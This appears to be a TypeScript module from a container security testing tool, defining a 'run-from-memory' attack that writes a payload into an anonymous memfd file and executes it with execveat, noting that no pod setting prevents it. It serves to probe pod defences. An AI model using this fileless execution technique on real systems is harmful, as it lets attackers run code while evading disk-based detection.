/** Execute a program that exists only in memory. */
import type { Attack } from '../attack.ts';
import { executionOf, PAYLOAD_EXIT_CODE, payload } from '../dropping.ts';
import { call, resultOf } from '../probe/program.ts';
import { AT_EMPTY_PATH } from '../probe/syscalls.ts';

const attack: Attack = {
  id: 'run-from-memory',
  title: 'Execute a program from memory',
  family: 'code',
  technique: 'T1496',
  harmless: false,
  opens: {
    kind: 'technique',
    what: 'memfd',
    why: 'a process can execute an anonymous file in memory; no field of a pod prevents it',
  },
  why: 'A process that was taken over can execute an anonymous file (memfd) without any writable mount. No field of a pod stops it.',
  stoppedBy: [],
  plan(target) {
    const content = payload(target.architecture);
    const memory = call('memfd_create', 'petrify', 0);
    const wrote = call('write', resultOf(memory), content, content.length);
    const run = executionOf(call('execveat', resultOf(memory), '', ['petrify'], [], AT_EMPTY_PATH), PAYLOAD_EXIT_CODE);
    const program = [memory, wrote, ...run.calls, call('close', resultOf(memory))];
    const step = { program, decisive: [memory, wrote], execution: { ...run.execution, required: true } };
    return { tries: [{ place: 'memfd', gain: 'residual', ...step }], skipped: [] };
  },
};

export default attack;
